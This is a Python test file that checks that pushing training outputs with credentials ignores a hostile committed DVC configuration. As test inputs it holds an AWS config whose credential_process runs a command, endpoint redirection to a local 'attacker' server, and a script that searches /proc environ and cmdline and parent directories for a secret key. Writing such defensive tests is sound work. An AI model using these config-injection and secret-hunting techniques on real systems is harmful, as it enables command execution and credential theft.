"""A push with credentials uses nothing of the commit's `.dvc/config` but an address below the operator's."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import boto3
import pytest

from tests.contracts.agent.agent_bench import Bench, digest, project
from tests.contracts.agent.remote_servers import BUCKET, S3, s3
from tests.contracts.agent.test_agent_remotes import NUMBER, remote_for_agent, values, writing

pytestmark = [pytest.mark.xdist_group("remotes"), pytest.mark.timeout(600)]
AWS = "[profile evil]\ncredential_process = touch {canary}\n\n[default]\ncredential_process = touch {canary}\n"
SEEK = """
import glob, json
hidden = {hidden!r}[::-1].encode()
places = glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("../**", recursive=True)
for place in places + glob.glob("../**/.*", recursive=True):
    try:
        found = hidden in open(place, "rb").read()
    except OSError:
        continue
    if found:
        print("found in", place, flush=True)
print("looked at", len(places) > 10, flush=True)
json.dump({{"accuracy": 0.9}}, open("metrics.json", "w"))
open("model.txt", "w").write("weights 0.01")
open("loss.csv", "w").write("step,loss\\n0,1\\n")
"""


@pytest.fixture(scope="module")
def store() -> Iterator[S3]:
    with s3() as running:
        yield running


@pytest.fixture
def ear() -> Iterator[tuple[str, list[str]]]:
    """Start the attacker's server; yield its address and the requests it got."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path} {dict(self.headers)}")
            self.send_error(404)

        do_PUT = do_POST = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()
    server.server_close()


def keys(store: S3) -> dict[str, bytes]:
    """Return the keys of all objects of the bucket."""
    client: Any = boto3.client("s3", region_name="us-east-1", endpoint_url=store.endpoint, **_writer(store))
    listed = client.list_objects_v2(Bucket=BUCKET).get("Contents", [])
    return {each["Key"]: client.get_object(Bucket=BUCKET, Key=each["Key"])["Body"].read() for each in listed}


def _writer(store: S3) -> dict[str, str]:
    identity, secret = store.keys["writer"]
    return {"aws_access_key_id": identity, "aws_secret_access_key": secret}


def test_nothing_of_a_commits_configuration_reaches_the_push_or_its_credentials(
    machine: Bench, store: S3, ear: tuple[str, list[str]], tmp_path: Path
) -> None:
    evil, heard = ear
    canary, address = tmp_path / "canary", f"s3://{BUCKET}/lab/evil"
    asked = project(tmp_path, NUMBER, train=SEEK.format(hidden=store.keys["writer"][1][::-1]))
    options = {
        "endpointurl": evil,
        "configpath": "../aws.conf",
        "credentialpath": "../aws.conf",
        "profile": "evil",
        "worktree": "true",
        "version_aware": "true",
    }
    lines = "".join(f"    {name} = {value}\n" for name, value in options.items())
    config = f"[core]\n    remote = storage\n[cache]\n    type = symlink\n['remote \"storage\"']\n    url = {address}\n"
    asked.commit({"aws.conf": AWS.format(canary=canary), ".dvc/config": config + lines})

    client: Any = boto3.client("s3", region_name="us-east-1", endpoint_url=store.endpoint, **_writer(store))
    weights = digest(b"weights 0.01")
    there = f"lab/evil/files/md5/{weights[:2]}/{weights[2:]}"
    client.put_object(Bucket=BUCKET, Key=there, Body=b"what somebody put there before")

    machine.train(asked, remote=remote_for_agent(asked, address, writing(store), values(store)))
    assert machine.api.done["delivered"]["data"] == "pushed", (machine.api.done, machine.api.text)
    assert heard == [] and not canary.exists()
    curve = digest(b"step,loss\n0,1\n")
    assert keys(store) == {
        there: b"what somebody put there before",
        f"lab/evil/files/md5/{curve[:2]}/{curve[2:]}": b"step,loss\n0,1\n",
    }, "objects by their hash, at the operator's address, over nothing that is there"
    assert "looked at True" in machine.api.text and "found in" not in machine.api.text
